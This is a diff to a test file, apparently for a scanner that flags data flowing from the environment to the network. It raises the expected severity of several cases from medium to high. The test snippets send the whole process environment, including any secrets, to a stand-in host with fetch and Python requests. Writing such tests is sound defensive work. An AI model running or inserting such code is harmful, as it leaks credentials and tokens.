@@ -48,19 +48,19 @@ const CASES: readonly (readonly [what: string, file: string, text: string, flow:
     'the environment as a whole',
     'a.js',
     `fetch('https://example.invalid', { body: JSON.stringify(process.env) })`,
-    'environment → network medium (origin)',
+    'environment → network high (origin)',
   ],
   [
     'the environment, copied',
     'a.js',
     `const e = { ...process.env }; fetch('https://example.invalid', { body: JSON.stringify(e) })`,
-    'environment → network medium (origin)',
+    'environment → network high (origin)',
   ],
   [
     'the environment of Python',
     'a.py',
     `import os, requests\nrequests.post('https://example.invalid', json=dict(os.environ))`,
-    'environment → network medium (origin)',
+    'environment → network high (origin)',
   ],
   [
     'a private key of the environment',
